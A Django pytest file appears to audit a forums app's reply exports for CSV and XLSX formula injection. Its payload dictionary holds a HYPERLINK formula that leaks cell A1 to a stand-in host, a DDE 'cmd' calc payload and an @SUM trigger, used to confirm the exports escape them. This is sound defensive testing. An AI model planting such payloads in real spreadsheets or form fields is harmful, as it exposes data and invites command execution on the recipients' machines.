"""Audit item 1: text people typed must never become a formula in a reply export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from forums import services

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "dietary_needs": '=HYPERLINK("http://x.example/?leak="&A1,"klicka")',
    "access_needs": '+cmd|" /C calc"!A0',
    "substitute_name": "@SUM(1+1)",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_replies(sub_regional_round, send_now, lund_chief):
    send_now(services.schedule_and_invite, meeting=sub_regional_round, actor=None)
    lund_chief.first_name = "-2+3"
    lund_chief.save()
    for invitation in sub_regional_round.invitations.all():
        invitation.name = "-2+3" if invitation.user_id == lund_chief.pk else invitation.name
        invitation.save()
        services.record_reply(invitation=invitation, response="declined", **PAYLOADS, actor=None)
    return sub_regional_round


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_neutralises_formula_triggers(official_client, hostile_replies):
    response = official_client.get(reverse("forums:replies_csv", args=[hostile_replies.pk]))
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the export has rows"
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert "'" + PAYLOADS["dietary_needs"] in cells  # kept, readable, but inert


def test_xlsx_export_holds_no_formula(official_client, hostile_replies):
    response = official_client.get(reverse("forums:replies_xlsx", args=[hostile_replies.pk]))
    sheet = load_workbook(io.BytesIO(_body(response))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if str(c.value).startswith(TRIGGERS)]
    assert "'" + PAYLOADS["access_needs"] in [c.value for c in cells]
